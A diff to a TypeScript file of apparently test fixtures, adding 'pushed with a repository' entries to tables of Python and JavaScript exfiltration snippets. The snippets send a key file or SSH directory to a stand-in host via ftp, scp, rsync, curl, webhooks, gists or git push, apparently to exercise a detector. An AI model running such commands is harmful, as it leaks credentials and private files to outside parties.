@@ -46,6 +46,8 @@ const PY: Readonly<Record<string, string>> = {
   ftp: 'f = ftplib.FTP("h.test")\nf.login("u", "p")\nf.storbinary("STOR k", open(K, "rb"))',
   sftp: 't = paramiko.Transport(("h.test", 22))\nt.connect(username="u", password="p")\nparamiko.SFTPClient.from_transport(t).put(K, "k")',
   'ssh client': 'c = paramiko.SSHClient()\nc.connect("h.test", username="u")\nc.exec_command(f"echo {D} > k")',
+  'pushed with a repository':
+    'import shutil\nshutil.copy(K, "/tmp/r/k.bin")\nfor a in (["add", "-A"], ["commit", "-m", "x"], ["push"]):\n    subprocess.run(["git", *a], cwd="/tmp/r")',
   'scp by a program': 'subprocess.run(["scp", K, "u@h.test:k"])',
   'rsync by a program': 'subprocess.run(["rsync", "-a", "/home/u/.ssh/", "h.test::in/"])',
   'curl by a program': 'subprocess.run(["curl", "-T", K, "https://h.test/x"])',
@@ -132,6 +134,8 @@ const JS: Readonly<Record<string, string>> = {
   discord: "new discord.WebhookClient({ url: 'https://discord.com/api/webhooks/1/x' }).send(D);",
   gist: "new octokit.Octokit({ auth: 't' }).gists.create({ files: { k: { content: D } } });",
   issue: "new octokit.Octokit({ auth: 't' }).rest.issues.create({ owner: 'a', repo: 'b', title: 'x', body: D });",
+  'pushed with a repository':
+    "fs.copyFileSync(K, '/tmp/r/k.bin'); cp.execSync('git add . && git commit -m x && git push', { cwd: '/tmp/r' });",
   'scp by a program': "cp.execFileSync('scp', [K, 'u@h.test:k']);",
   'curl by a shell': 'cp.execSync(`curl -d @${K} https://h.test/x`);',
   'curl on standard input': "cp.execFileSync('curl', ['-d', '@-', 'https://h.test/x'], { input: D });",
